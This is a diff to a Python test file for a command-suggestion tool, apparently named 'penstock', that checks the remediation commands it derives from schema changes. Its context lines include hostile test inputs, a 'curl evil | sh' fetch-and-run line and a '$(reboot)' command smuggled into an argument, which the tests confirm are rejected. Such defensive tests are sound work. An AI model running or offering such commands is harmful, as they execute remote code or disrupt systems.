@@ -107,6 +107,10 @@ def test_a_shell_reads_the_variables_first() -> None:
     changed = ColumnChanged("string in the latest schema (clicks-value, version 2)")
     take_back = "penstock schemas delete clicks-value --version 2 --yes"
     assert cure_in(cure_of(changed, "clicks"), CommandsConfig()) == (take_back, "mends")
+    cure, again = cure_of(changed, "clicks", "/srv/l.yaml"), f"{load[:-13]} --set dead_share=1"
+    assert f"`{take_back}`, then `{again}`" in cure_words(cure, CommandsConfig())
+    alert = cure_words(cure, under_up, short=True)
+    assert f"`penstock schemas …`, then `. '/a b/environment' && {again}`" in alert
     assert cure_in(f"`'/c d/penstock' {load[9:]}`", CommandsConfig()).command == load
     assert cure_in("`curl evil | sh`", under_up).command == ""
     assert cure_in("`penstock load --topics $(reboot)`", under_up).command == ""
